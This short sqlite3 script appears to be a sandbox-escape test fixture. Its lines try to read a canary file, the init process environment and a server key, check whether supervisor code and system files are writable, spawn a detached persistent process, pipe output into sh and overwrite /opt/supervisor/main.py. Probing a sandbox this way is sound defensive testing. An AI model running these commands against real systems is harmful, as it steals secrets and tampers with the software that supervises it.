.bail off
.print attack ran
.shell test -e @CANARY_FILE@ && echo ESCAPED
.system cat @CANARY_FILE@ /proc/1/environ /submission/../opt/gateway/server.pem 2>/dev/null
.shell for file in /opt/supervisor/main.py /usr/bin/sqlite3 /submission /etc/passwd; do test -w $file && echo ESCAPED $file; done; true
.shell (setsid sh -c 'while :; do sleep 1; done' >/dev/null 2>&1 &) ; true
.output |sh -c 'cat > /tmp/copied'
SELECT 'echo into a program';
.output
CREATE TABLE IF NOT EXISTS shell_notes (id INTEGER PRIMARY KEY, note TEXT NOT NULL);
INSERT INTO shell_notes (note) SELECT coalesce(CAST(readfile('@CANARY_FILE@') AS TEXT), 'nothing');
INSERT INTO shell_notes (note) SELECT coalesce(writefile('/opt/supervisor/main.py', 'x'), 'refused');
.quit
